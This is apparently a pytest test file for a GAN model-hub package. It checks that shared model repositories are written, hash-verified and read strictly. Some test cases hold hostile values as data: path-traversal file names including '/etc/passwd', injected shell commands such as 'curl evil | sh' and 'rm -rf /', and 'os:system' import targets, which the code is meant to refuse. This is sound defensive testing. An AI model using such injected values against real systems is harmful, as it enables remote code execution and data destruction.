"""A model repository on disk: what is written, how strictly it is read, what a stranger's config.json may not do."""

import hashlib
import json

import pytest
import torch

import zoo
from ganzoo_hub.manifest import Record, read_manifest, signed
from ganzoo_hub.reference import Reference, parse
from ganzoo_hub.repository import read_repository, verify_repository, write_repository
from ganzoo_hub.requirements import span
from zoo import InvalidOptions, ZooError
from zoo.training import checkpoint


@pytest.fixture
def shared(trained, tmp_path):
    """A repository as `push` lays it out."""
    folder = tmp_path / "shared"
    folder.mkdir()
    write_repository(trained, folder, discriminator=True)
    return folder


def rewrite(folder, change):
    """Alter config.json as a stranger would, with the right sha256 of itself."""
    path = folder / "config.json"
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(signed(content)))


def test_what_is_written(trained, shared):
    assert sorted(path.name for path in shared.iterdir()) == [
        "config.json",
        "discriminator.safetensors",
        "generator.safetensors",
        "samples.png",
    ]
    content = json.loads((shared / "config.json").read_text())
    assert content["architecture"] == "dcgan"
    assert content["data"]["resolution"] == 16
    files = content["repository"]["files"]
    for name, record in files.items():
        data = (shared / name).read_bytes()
        assert record == {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}, name
    assert set(files) == {"discriminator.safetensors", "generator.safetensors", "samples.png"}
    first = content["repository"]["requires"][0]
    assert (first["kind"], first["name"], first["distribution"], first["needed"]) == (
        *("architecture", "dcgan", "ganzoo", "sampling"),
    )
    sampler = next((trained / "checkpoints").glob("step-*")) / checkpoint.SAMPLER
    assert (shared / "generator.safetensors").read_bytes() == sampler.read_bytes()


def test_no_path_of_this_machine_is_shared(trained, shared):
    assert str(trained.parent) not in (shared / "config.json").read_text()
    source = json.loads((trained / "config.json").read_text())["source"]["source"]
    assert source.startswith("/")
    assert source not in (shared / "config.json").read_text()


def test_it_loads_like_the_run(trained, shared):
    assert torch.equal(zoo.load(shared).sample(4), zoo.load(trained).sample(4))
    whole, live = zoo.load(shared, training=True), zoo.load(trained, training=True)
    images = torch.randn(4, 3, 16, 16)
    assert torch.equal(whole.critic.network.eval()(images), live.critic.network.eval()(images))
    assert torch.equal(whole.eval().sample(2), zoo.load(trained).sample(2))  # the averaged generator
    with pytest.raises(ZooError, match="one set of weights and no checkpoint 'best'"):
        zoo.load(shared, which="best")


def test_without_critics_it_samples_and_no_more(trained, tmp_path):
    write_repository(trained, tmp_path)
    assert read_repository(tmp_path).sampler
    with pytest.raises(ZooError, match="holds the generator alone"):
        zoo.load(tmp_path, training=True)


def test_with_the_optimizer_it_resumes_exactly(trained, tmp_path, pictures):
    (folder := tmp_path / "whole").mkdir()
    write_repository(trained, folder, optimizer=True)
    live, shared = zoo.load(trained, training=True), zoo.load(folder, training=True)
    assert all(torch.equal(value, shared.state_dict()[name]) for name, value in live.state_dict().items())
    zoo.resume(folder, kimg=0.048, data=pictures, quiet=True, device="cpu")
    import shutil

    shutil.copytree(trained, tmp_path / "copy")
    zoo.resume(tmp_path / "copy", kimg=0.048, quiet=True, device="cpu")
    assert torch.equal(zoo.load(folder).sample(2), zoo.load(tmp_path / "copy").sample(2))


def test_training_starts_from_it(shared, pictures, tmp_path):
    run = zoo.train(
        *("dcgan", pictures),
        out=tmp_path / "on",
        origin=str(shared),
        preset="tiny",
        resolution=16,
        kimg=0.016,
        quiet=True,
        device="cpu",
    )
    assert (run.folder / "checkpoints" / "last.json").exists()


def test_verify_finds_what_changed(shared):
    whole, absent = verify_repository(shared)
    assert (len(whole), absent) == (3, [])
    (shared / "samples.png").unlink()
    assert verify_repository(shared)[1] == ["samples.png"]
    data = bytearray((shared / "generator.safetensors").read_bytes())
    data[-1] ^= 1
    (shared / "generator.safetensors").write_bytes(data)
    with pytest.raises(ZooError, match=r"generator\.safetensors is damaged"):
        verify_repository(shared)
    (shared / "generator.safetensors").write_bytes(data[:-1])
    with pytest.raises(ZooError, match=r"has [\d,]+ bytes instead of [\d,]+"):
        zoo.load(shared)


def test_config_json_is_checked_against_itself(shared):
    text = (shared / "config.json").read_text()
    (shared / "config.json").write_text(text.replace('"resolution": 16', '"resolution": 32'))
    with pytest.raises(ZooError, match=r"config\.json is damaged, or was changed by hand"):
        zoo.load(shared)


@pytest.mark.parametrize(
    "name",
    ["../evil.safetensors", "/etc/passwd", "a/b.safetensors", "model.py", "weights.pkl", ".hidden.json", "a\\b.json"],
)
def test_names_that_no_repository_holds_are_refused(shared, name):
    record = {"size": 1, "sha256": "0" * 64}
    rewrite(shared, lambda content: content["repository"]["files"].update({name: record}))
    with pytest.raises(ZooError, match="which no model repository holds"):
        zoo.load(shared)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda c: c["repository"].update(format=9), "has format 9; this ganzoo reads 1"),
        (lambda c: c["repository"]["files"].clear(), "lists no generator.safetensors"),
        (lambda c: c["repository"].pop("requires"), "is refused: in config.json, 'requires'"),
        (lambda c: c["repository"]["files"]["samples.png"].update(sha256="x"), "no size and sha256 of samples.png"),
        (
            lambda c: c["repository"]["requires"][0].update(distribution="x; curl evil | sh"),
            "the distribution",
        ),
        (lambda c: c["repository"]["requires"][0].update(range=">=1 && rm -rf /"), "has the range"),
        (lambda c: c.update(architecture="os.path:join"), "No architecture is named 'os.path:join'"),
        (lambda c: c["config"].update(evil="os:system"), "evil"),
    ],
)
def test_what_a_stranger_may_not_write(shared, change, said):
    rewrite(shared, change)
    with pytest.raises(ZooError, match=said.replace("|", r"\|").replace("'", ".")):
        zoo.load(shared)


def test_a_missing_plugin_is_told_with_version_and_command(shared):
    def change(content):
        content["architecture"] = "fancy-gan"
        content["repository"]["requires"][0].update(
            distribution="ganzoo-fancy", version="0.3.1", range=">=0.3.1,<0.4", name="fancy-gan"
        )

    rewrite(shared, change)
    with pytest.raises(ZooError, match="look at a package before installing it") as told:
        zoo.load(shared)
    assert "the architecture 'fancy-gan', from ganzoo-fancy (>=0.3.1,<0.4)" in str(told.value)
    assert 'pip install "ganzoo-fancy>=0.3.1,<0.4"' in str(told.value)


def test_a_missing_loss_is_told_only_for_training(shared):
    def change(content):
        loss = next(one for one in content["repository"]["requires"] if one["kind"] == "loss")
        loss.update(name="odd-loss", distribution="ganzoo-odd")

    rewrite(shared, change)
    zoo.load(shared)
    with pytest.raises(ZooError, match="the loss 'odd-loss', from ganzoo-odd"):
        zoo.load(shared, training=True)


def test_another_version_is_told_where_config_json_does_not_read(shared):
    def change(content):
        content["config"]["new_option"] = 1
        content["repository"]["requires"][0].update(version="99.0", range=">=99.0,<100")

    rewrite(shared, change)
    with pytest.raises(ZooError, match=r"It was written with ganzoo 99\.0; here is"):
        zoo.load(shared)


def test_weights_that_do_not_fit_are_listed_by_name(shared):
    path = shared / "generator.safetensors"
    tensors = checkpoint.read_tensors(path)
    name = next(iter(tensors))
    tensors["generator.surprise"] = tensors.pop(name)
    checkpoint.write_tensors(path, tensors)
    record = Record.of(path).to_json()
    rewrite(shared, lambda content: content["repository"]["files"].update({path.name: record}))
    with pytest.raises(ZooError, match=f"missing: {name}; not known here: generator.surprise"):
        zoo.load(shared)


def test_a_foreign_repository_is_told_apart(tmp_path):
    (tmp_path / "config.json").write_text('{"model_type": "bert", "repository": 3}')
    with pytest.raises(ZooError, match="no pickles, no code"):
        zoo.load(tmp_path)


def test_what_cannot_be_shared(trained, shared, tmp_path):
    from ganzoo_hub.repository import run_folder

    with pytest.raises(ZooError, match=r"take it over first: ganzoo import x\.pkl --out DIR"):
        run_folder("x.pkl")
    with pytest.raises(ZooError, match="was pulled from the Hub"):
        run_folder(shared)
    imported = tmp_path / "imported"
    target = imported / "checkpoints" / "step-000000000"
    target.mkdir(parents=True)
    found = checkpoint.find(trained / "checkpoints")
    (target / checkpoint.SAMPLER).write_bytes((found / checkpoint.SAMPLER).read_bytes())
    checkpoint.point(target.parent, target, zoo.Progress(), "last")
    (imported / "config.json").write_text((trained / "config.json").read_text())
    for option in ("discriminator", "optimizer"):
        (place := tmp_path / option).mkdir()
        with pytest.raises(InvalidOptions, match=f"leave --with-{option} out"):
            write_repository(imported, place, **{option: True})


def test_the_manifest_is_read_back(shared):
    manifest = read_manifest(shared / "config.json")
    assert manifest.images == 32
    assert manifest.needed(training=False) == ["generator.safetensors"]
    assert manifest.needed(training=True) == ["generator.safetensors", "discriminator.safetensors"]


def test_versions_that_should_read_what_one_wrote():
    assert span("1.4.2") == ">=1.4.2,<2"
    assert span("0.3.1") == ">=0.3.1,<0.4"
    assert span("1.0.0.dev0") == ">=1.0.0.dev0,<2"
    assert span("2") == ">=2,<3"


def test_names_on_the_hub():
    commit = "0123456789abcdef0123456789abcdef01234567"
    assert parse("hf:me/x") == parse("me/x") == parse("hf://me/x") == parse("hf://models/me/x") == Reference("me/x")
    assert parse(f"hf:me/x@{commit}") == Reference("me/x", commit)
    assert parse("hf:me/x@refs/pr/1").revision == "refs/pr/1"
    assert str(parse("me/x")) == "hf:me/x"
    assert str(parse("me/x@v1")) == "hf:me/x@v1"
    for wrong in ("me", "hf:me", "a/b/c", "../x", "me/..", "me/x@../y", "hf:datasets/a/b", "me/x y", "", "a--b/c"):
        with pytest.raises(ZooError, match="write hf:owner/name"):
            parse(wrong)
